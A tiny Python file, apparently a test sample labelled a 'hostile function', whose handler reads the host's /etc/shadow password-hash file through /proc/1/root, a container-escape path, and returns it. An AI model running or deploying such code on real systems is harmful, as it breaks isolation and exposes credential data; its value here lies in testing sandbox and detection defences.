"""Sample hostile function: reads the host's files through PID 1's root."""


def handle(event, context):
    with open("/proc/1/root/etc/shadow") as f:
        return {"shadow": f.read()}
